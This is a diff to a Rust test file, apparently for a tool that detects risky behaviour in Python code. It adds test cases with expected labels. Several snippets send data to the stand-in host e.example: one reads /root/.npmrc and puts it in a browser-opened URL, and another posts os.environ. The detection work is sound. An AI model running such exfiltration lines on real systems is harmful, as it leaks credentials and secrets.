@@ -4,6 +4,16 @@ use crate::{Case, check_all};
 
 const CASES: &[Case] = &[
     (
+        "a page is opened that a server names",
+        "import requests, webbrowser\nwebbrowser.open(requests.get('https://e.example/').json()['url'])",
+        &["OpenAddress py:webbrowser.open Network"],
+    ),
+    (
+        "a key goes out in an address that a browser of a kind opens",
+        "import webbrowser\nk = open('/root/.npmrc').read()\nwebbrowser.get('firefox').open('https://e.example/?k=' + k)",
+        &["OpenAddress py:webbrowser.get.open Credential https://e.example/?k="],
+    ),
+    (
         "the environment is sent",
         "import os, requests\nrequests.post('http://e.example', json=dict(os.environ))",
         &["Request pypi:requests.post Environment"],
